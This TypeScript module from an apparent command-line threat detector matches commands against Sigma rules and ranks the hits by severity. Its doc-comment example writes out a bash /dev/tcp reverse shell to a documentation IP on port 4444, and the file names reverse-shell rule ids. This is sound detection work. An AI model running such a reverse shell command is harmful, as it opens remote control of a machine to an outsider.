import type { HashedTool } from '@cordon/core';
import type { Severity } from '../detector.js';
import type { SigmaRule } from '../sigma/compile-rule.js';
import { loadSigmaRules, type SigmaSource } from '../sigma/load.js';
import type { SigmaRuleError } from '../sigma/rule-error.js';
import { RuleSet } from '../sigma/rule-set.js';
import { commandTexts } from './command-text.js';
import { packOf, userPacks } from './hashed-packs.js';
import { COMMAND_PACKS } from './packs.js';

/** A rule that a command matched. */
export interface RuleHit {
  /** `command.reverse_shell_netcat`; the rule's own id where it has no name. */
  readonly rule: string;
  readonly title: string;
  readonly severity: Severity;
  /** ATT&CK technique ids. */
  readonly techniques: readonly string[];
  readonly author: string;
  readonly license: string;
  readonly references: readonly string[];
}

export interface CommandRules {
  /** The rules that a command matches, the most severe first. The command may be a whole script. */
  match(command: string): readonly RuleHit[];
  /** Mistakes in the rules that were added. */
  readonly errors: readonly SigmaRuleError[];
  /** The packs that they come from, by the hash of their texts. */
  readonly packs?: readonly HashedTool[];
}

export interface CommandRulesOptions {
  /** Sigma rules of the user's on `CommandLine`, beside ours. */
  readonly more?: readonly SigmaSource[];
}

const ORDER: readonly Severity[] = ['critical', 'high', 'medium', 'low', 'info'];

/**
 * Our rules for command lines: process lists, shell histories, cron entries, units. A command is matched as written,
 * as a shell would read it, and decoded.
 *
 * @example
 * ```ts
 * const [worst] = commandRules().match('bash -i >& /dev/tcp/203.0.113.66/4444 0>&1');
 * worst?.rule; // 'command.reverse_shell_dev_tcp'
 * ```
 */
export function commandRules(options: CommandRulesOptions = {}): CommandRules {
  const sources = [...COMMAND_PACKS, ...(options.more ?? [])];
  const { rules, fields, errors } = loadSigmaRules(sources);
  const set = new RuleSet(rules, fields);
  return {
    errors,
    packs: [...ownPacks(), ...userPacks('command rules', options.more ?? [])],
    match: (command) =>
      set
        .match({ CommandLine: commandTexts(command) })
        .map(toHit)
        .sort((a, b) => ORDER.indexOf(a.severity) - ORDER.indexOf(b.severity)),
  };
}

/** Our own, without compiling them. */
export function ownPacks(): readonly HashedTool[] {
  return COMMAND_PACKS.map(packOf);
}

function toHit(rule: SigmaRule): RuleHit {
  return {
    rule: `command.${rule.name === '' ? rule.id : rule.name}`,
    title: rule.title,
    severity: rule.level,
    techniques: rule.techniques,
    author: rule.author,
    license: rule.license,
    references: rule.references,
  };
}
